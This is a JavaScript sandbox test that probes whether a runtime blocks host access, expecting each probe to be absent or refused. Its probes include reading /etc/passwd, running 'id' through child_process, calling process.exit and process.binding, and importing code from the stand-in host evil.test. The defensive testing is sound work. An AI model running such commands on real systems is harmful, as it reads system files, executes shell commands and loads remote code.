// Everything that could reach the host: all must be absent or refused.
const probes = {
  Java: () => typeof Java === 'undefined' ? 'absent' : Java.type('java.lang.System'),
  Polyglot: () => typeof Polyglot === 'undefined' ? 'absent' : Polyglot.eval('js', '1'),
  Packages: () => typeof Packages === 'undefined' ? 'absent' : 'present',
  java: () => typeof java === 'undefined' ? 'absent' : 'present',
  load: () => typeof load === 'undefined' ? 'absent' : load('/etc/passwd'),
  loadWithNewGlobal: () => typeof loadWithNewGlobal === 'undefined' ? 'absent' : 'present',
  quit: () => typeof quit === 'undefined' ? 'absent' : 'present',
  Graal: () => typeof Graal === 'undefined' ? 'absent' : 'present',
  processExit: () => { try { process.exit(0); return 'present'; } catch (e) { return e.code === 'ERR_RENGA_UNSUPPORTED' ? 'refused' : 'present'; } },
  processBinding: () => { try { process.binding('fs'); return 'present'; } catch (e) { return e.code === 'ERR_RENGA_UNSUPPORTED' ? 'refused' : 'present'; } },
  processEnv: () => Object.keys(process.env).length === 0 ? 'absent' : 'present',
  fs: () => require('fs').readFileSync('/etc/passwd'),
  childProcess: () => require('child_process').execSync('id'),
  workerThreads: () => new (require('worker_threads').Worker)('x'),
  Worker: () => typeof Worker === 'undefined' ? 'absent' : 'present',
  host: () => typeof host === 'undefined' ? 'absent' : 'present',
  internal: () => typeof internal === 'undefined' ? 'absent' : 'present',
  evalJava: () => eval('typeof Java') === 'undefined' ? 'absent' : 'present',
  functionJava: () => Function('return typeof Java')() === 'undefined' ? 'absent' : 'present',
  // The host's running digest is in a private field: no property of a Hash (a Transform stream) is it.
  cryptoInternals: () => { const h = require('crypto').createHash('sha256'); return Object.keys(h).some((k) => h[k] !== null && typeof h[k] === 'object' && typeof h[k].update === 'function' && typeof h[k].digest === 'function') ? 'present' : 'absent'; },
};
const result = {};
for (const [name, probe] of Object.entries(probes)) {
  try {
    result[name] = String(probe());
  } catch (e) {
    result[name] = 'refused';
  }
}
try {
  await import('https://evil.test/x.js');
  result.import = 'loaded';
} catch (e) {
  result.import = 'refused';
}
res.end(JSON.stringify(result));
